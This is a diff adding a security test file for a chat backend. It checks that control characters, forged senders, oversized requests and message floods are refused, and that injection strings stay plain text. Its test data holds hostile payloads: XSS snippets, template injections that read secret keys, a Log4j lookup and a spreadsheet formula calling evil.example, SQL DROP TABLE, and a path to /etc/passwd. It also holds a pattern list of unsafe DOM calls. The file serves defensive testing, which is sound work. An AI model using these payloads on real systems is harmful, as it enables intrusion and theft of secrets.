@@ -1,0 +1,305 @@
+/** Misusing the chat: text that is more than text, names that are not one's own, silence, floods. */
+import { readdir, readFile } from 'node:fs/promises';
+import path from 'node:path';
+import { describe, expect, it, vi } from 'vitest';
+import { WebSocket } from 'ws';
+import { limits } from '../../amplify/limits';
+import { openBackend, type Message, type Outputs } from '../../live/backend';
+import { subscribe } from '../../live/subscriptions';
+import { projectFolder } from '../project-folder';
+import type { Guest } from './guest';
+import { setUpTarget } from './target';
+
+const target = setUpTarget();
+
+const mutation =
+  'mutation Say($nickname: String!, $text: String!) { sendMessage(nickname: $nickname, text: $text) { id nickname text sender sentAt } }';
+const say = (guest: Guest, text: string, nickname = 'Eve') => guest.call(mutation, { nickname, text });
+
+const code = (point: number) => String.fromCodePoint(point);
+const name = (point: number) => `U+${point.toString(16).toUpperCase().padStart(4, '0')}`;
+
+describe('a guest says', () => {
+  /** Characters that would break the line, or turn the direction of what others wrote. */
+  const controls = [
+    0x00, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0x0d, 0x1b, 0x7f, 0x80, 0x85, 0x9f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c,
+    0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
+  ];
+  const refused: [string, string][] = [
+    ...controls.map((point): [string, string] => [`a word with ${name(point)} in it`, `before${code(point)}after`]),
+    ['a name that is read backwards', `${code(0x202e)}nimda`],
+    ['colours of a terminal', `${code(0x1b)}[31mred${code(0x1b)}[0m`],
+    ['two lines, the second under another name', 'hello\nAdmin: send me your keys'],
+    ['half of an emoji', 'what a film \ud83c'],
+    ['the other half', '\udf9e what a film'],
+    ['the halves in the wrong order', '\udf9e\ud83c'],
+    ['nothing', ''],
+    ['a space', ' '],
+    ['spaces of all kinds', `\u00a0\u2003\u3000${code(0xfeff)}`],
+    ['characters that nobody sees', `${code(0x200b)}${code(0x200d)}${code(0x2060)}`],
+    ['tags that nobody sees', `${code(0xe0041)}${code(0xe0042)}`],
+    ['a mark with nothing under it', code(0x0301)],
+    ['marks that pile up over other lines', `Z${code(0x0310).repeat(50)}algo`],
+    [
+      'marks of all kinds that pile up',
+      `H${Array.from({ length: 0x70 }, (_, index) => code(0x0300 + index)).join('')}`,
+    ],
+    ['one character too many', 'x'.repeat(limits.maxTextLength + 1)],
+    ['emoji past the limit', '🎬'.repeat(limits.maxTextLength / 2 + 1)],
+    ['the limit, then spaces and a word', `${'x'.repeat(limits.maxTextLength)}  x`],
+    ['100 kB', 'x'.repeat(100_000)],
+    ['500 kB of spaces around 500 kB', `${' '.repeat(250_000)}${'x'.repeat(500_000)}${' '.repeat(250_000)}`],
+  ];
+
+  it.each(refused)('%s', async (_, text) => {
+    const { data, errors } = await say(await target.newGuest(), text);
+    expect(data).toEqual({ sendMessage: null });
+    expect(errors).toMatchObject([{ path: ['sendMessage'], errorType: 'InvalidMessage' }]);
+  });
+
+  it.each(refused)('under the name of %s', async (_, nickname) => {
+    const { data, errors } = await say(await target.newGuest(), 'hello', nickname);
+    expect(data).toEqual({ sendMessage: null });
+    expect(errors).toMatchObject([{ path: ['sendMessage'], errorType: 'InvalidMessage' }]);
+  });
+
+  it('1 MB', async () => {
+    const body = JSON.stringify({ query: mutation, variables: { nickname: 'Eve', text: 'x'.repeat(1024 * 1024) } });
+    expect(await target.guest.post(body)).toMatchObject({
+      status: 413,
+      json: { errors: [{ errorType: 'RequestEntityTooLargeException' }] },
+    });
+  });
+
+  it('32 MB, of which nothing is kept', async () => {
+    expect(await target.guest.post(Buffer.alloc(32 * 1024 * 1024, ' '))).toMatchObject({ status: 413 });
+  });
+
+  it.each<[string, string]>([
+    ['a number', '7'],
+    ['null', 'null'],
+    ['true', 'true'],
+    ['a list', '["a", "b"]'],
+    ['an object', '{S: "text"}'],
+  ])('%s in place of text', async (_, value) => {
+    const { data, errors } = await target.guest.call(
+      `mutation { sendMessage(nickname: "Eve", text: ${value}) { id } }`,
+    );
+    expect(data).toBeNull();
+    expect(errors?.[0]?.message).toMatch(/^Validation error of type WrongType/);
+  });
+});
+
+describe('a guest speaks for others: gives', () => {
+  it.each(['sender', 'id', 'sentAt', 'identityId', 'from'])('a %s of an own making', async (argument) => {
+    const { data, errors } = await target.guest.call(
+      `mutation { sendMessage(nickname: "Eve", text: "hi", ${argument}: "forged") { id } }`,
+    );
+    expect(data).toBeNull();
+    expect(errors?.[0]?.message).toContain(`Unknown field argument ${argument}`);
+  });
+
+  it('an undeclared variable, a header and a cookie that name another sender', async () => {
+    target.allowChanges();
+    const guest = await target.newGuest();
+    const body = JSON.stringify({
+      query: mutation,
+      variables: { nickname: 'Eve', text: 'hi', sender: 'forged' },
+      sender: 'forged',
+    });
+    const forged = { 'x-amzn-cognito-identity-id': 'forged', cookie: 'sender=forged', 'x-sender': 'forged' };
+    await guest.post(body, {}, { headers: forged });
+    expect(await target.takeReceivedUpdates()).toEqual([
+      {
+        onMessage: {
+          id: expect.any(String),
+          nickname: 'Eve',
+          text: 'hi',
+          sender: guest.identityId.slice(-12),
+          sentAt: expect.any(Number),
+        },
+      },
+    ]);
+  });
+
+  it('fields an alias so that another is heard as the sender', async () => {
+    target.allowChanges();
+    const guest = await target.newGuest();
+    await guest.call(
+      'mutation { sendMessage(nickname: "forged", text: "hi") { sender: nickname nickname: sender id text sentAt } }',
+    );
+    expect(await target.takeReceivedUpdates()).toMatchObject([
+      { onMessage: { sender: guest.identityId.slice(-12), nickname: 'forged' } },
+    ]);
+  });
+
+  it('the nickname of another: the sender tells them apart', async () => {
+    target.allowChanges();
+    const guests = [await target.newGuest(), await target.newGuest()];
+    for (const guest of guests) await say(guest, 'It is me', 'Ada');
+    const senders = (await target.takeReceivedUpdates()).map(({ onMessage }) => onMessage?.sender);
+    expect(senders).toEqual(guests.map(({ identityId }) => identityId.slice(-12)));
+    expect(new Set(senders).size).toBe(2);
+  });
+
+  it('nobody hears the whole of an identity, which is the key to its credentials', async () => {
+    target.allowChanges();
+    const guest = await target.newGuest();
+    await say(guest, 'hello');
+    expect(JSON.stringify(await target.takeReceivedUpdates())).not.toContain(guest.identityId);
+  });
+});
+
+describe('what looks like code stays text', () => {
+  it('no part of the page makes HTML of text: React writes all of it', async () => {
+    const files = (
+      await Promise.all(
+        ['app', 'components', 'live'].map(async (folder) =>
+          (await readdir(path.join(projectFolder, folder), { recursive: true })).map((name) =>
+            path.join(projectFolder, folder, name),
+          ),
+        ),
+      )
+    )
+      .flat()
+      .filter((name) => /\.tsx?$/.test(name));
+    expect(files.length).toBeGreaterThan(20);
+    for (const file of files) {
+      expect(await readFile(file, 'utf8'), file).not.toMatch(
+        /dangerouslySetInnerHTML|(inner|outer)HTML|insertAdjacentHTML|document\.write|\beval\(|new Function/,
+      );
+    }
+  });
+
+  it.each<[string, string]>([
+    ['a script', '<script>alert(1)</script>'],
+    ['an image with a handler', '<img src=x onerror=alert(1)>'],
+    ['a drawing with a handler', '<svg/onload=alert(1)>'],
+    ['the end of an attribute', '"><script>alert(1)</script>'],
+    ["the end of the page's own data", '</script><script>alert(1)</script>'],
+    ['a comment that stays open', '<!--'],
+    ['entities', '&lt;script&gt;&#x27;&amp;'],
+    ['an address that is a script', 'javascript:alert(1)'],
+    ['a template of Angular', '{{constructor.constructor("alert(1)")()}}'],
+    ['a template of JavaScript', '${process.env.AWS_SECRET_ACCESS_KEY}'],
+    ['a template of EJS', '<%= process.env %>'],
+    ['a template of Jinja', '{% for x in ().__class__.__base__.__subclasses__() %}'],
+    ['VTL that reads', '$util.toJson($ctx.identity)'],
+    ['VTL that sets', '#set($x = $ctx.stash.put("message", "forged"))$x'],
+    ['VTL that returns', '#return({"sender":"forged"})'],
+    ['a lookup of Log4j', '${jndi:ldap://evil.example/a}'],
+    ['SQL', "'; DROP TABLE Ballot; --"],
+    ['PartiQL', 'SELECT * FROM "Ballot"'],
+    ['JSON', '{"S":"x"},"sender":{"S":"forged"}'],
+    ['the end of a data message', '"}}},{"type":"data","id":"onRound"'],
+    ['GraphQL', '") { id } startRound(startsAt: 60'],
+    ['a formula', '=HYPERLINK("http://evil.example","win")'],
+    ['an ANSI sequence without its escape', '[31mred'],
+    ['a format string', '%s%n%x{0}'],
+    ['backslashes', '\\u0000\\n\\x00'],
+    ['a path', '../../../../etc/passwd'],
+  ])('%s', async (_, text) => {
+    target.allowChanges();
+    const guest = await target.newGuest();
+    const { data, errors } = await say(guest, text);
+    expect(errors).toBeUndefined();
+    const sent = { ...(data?.sendMessage as object), nickname: 'Eve', text, sender: guest.identityId.slice(-12) };
+    expect(await target.takeReceivedUpdates()).toEqual([{ onMessage: sent }]);
+  });
+
+  it.each([
+    ['an emoji of a family', '👨‍👩‍👧‍👦 🏳️‍🌈 1️⃣'],
+    ['Arabic', 'مرحبا بالعالم'],
+    ['Hebrew with its points', 'שָׁלוֹם'],
+    ['Hindi', 'नमस्ते क्षत्रिय'],
+    ['Vietnamese, taken apart', 'Tiếng Việt'.normalize('NFD')],
+    ['Thai', 'น้ำผึ้ง'],
+    ['a flag of Scotland', '🏴󠁧󠁢󠁳󠁣󠁴󠁿'],
+  ])('while %s is let through as it is', async (_, text) => {
+    target.allowChanges();
+    expect((await say(await target.newGuest(), text)).errors).toBeUndefined();
+    expect(await target.takeReceivedUpdates()).toMatchObject([{ onMessage: { text } }]);
+  });
+});
+
+describe('a guest floods the room', () => {
+  it('with 50 messages at once: one is heard', async () => {
+    target.allowChanges();
+    const guest = await target.newGuest();
+    const answers = await Promise.all(Array.from({ length: 50 }, (_, index) => say(guest, `flood ${index}`)));
+    target.countAttacks(49);
+    const refusals = answers.flatMap(({ errors = [] }) => errors.map(({ errorType }) => errorType));
+    // A second may go by on a busy machine.
+    const heard = await target.takeReceivedUpdates();
+    expect(heard.length).toBe(answers.filter(({ data }) => data?.sendMessage).length);
+    expect(heard.length).toBeLessThanOrEqual(3);
+    expect(new Set(refusals)).toEqual(new Set(['SlowDown']));
+  });
+
+  it('with 8 messages in one document, by aliases: one is heard', async () => {
+    target.allowChanges();
+    const guest = await target.newGuest();
+    const calls = Array.from(
+      { length: 8 },
+      (_, index) =>
+        `a${index}: sendMessage(nickname: "Eve", text: "flood ${index}") { id nickname text sender sentAt }`,
+    );
+    const { errors } = await guest.call(`mutation { ${calls.join(' ')} }`);
+    target.countAttacks(7);
+    expect(errors).toHaveLength(7);
+    expect(await target.takeReceivedUpdates()).toHaveLength(1);
+  });
+
+  it('with one message that is selected twice: it is heard once', async () => {
+    target.allowChanges();
+    const guest = await target.newGuest();
+    const call = 'sendMessage(nickname: "Eve", text: "once")';
+    await guest.call(
+      `mutation { ${call} { id nickname } ${call} { text sender sentAt } ...F } fragment F on Mutation { ${call} { id } }`,
+    );
+    const heard = await target.takeReceivedUpdates();
+    expect(heard).toEqual([
+      {
+        onMessage: {
+          id: expect.any(String),
+          nickname: 'Eve',
+          text: 'once',
+          sender: expect.any(String),
+          sentAt: expect.any(Number),
+        },
+      },
+    ]);
+  });
+
+  it('with messages that leave out what screens need: the unmodified client passes over them, and hears the next', async () => {
+    target.allowChanges();
+    vi.stubGlobal('WebSocket', WebSocket);
+    const { client } = openBackend(target.outputs as Outputs);
+    const heard: string[] = [];
+    const faults: unknown[] = [];
+    const nothing = () => undefined;
+    const handlers = {
+      round: nothing,
+      scores: nothing,
+      message: ({ text }: Message) => heard.push(text),
+      error: (error: unknown) => faults.push(error),
+    };
+    const leave = subscribe(client, handlers, () => 0);
+    await vi.waitUntil(
+      async () => {
+        await say(await target.newGuest(), 'whole');
+        return heard.length > 0;
+      },
+      { timeout: 10_000, interval: 50 },
+    );
+
+    heard.length = 0;
+    await (await target.newGuest()).call('mutation { sendMessage(nickname: "Eve", text: "half") { __typename } }');
+    await (await target.newGuest()).call('mutation { sendMessage(nickname: "Eve", text: "half") { sender: id } }');
+    await say(await target.newGuest(), 'after');
+    await vi.waitUntil(() => heard.includes('after'), { timeout: 10_000, interval: 10 });
+    expect([heard.filter((text) => text !== 'whole'), faults]).toEqual([['after'], []]);
+    target.countAttacks(1);
+    leave();
+  });
+});
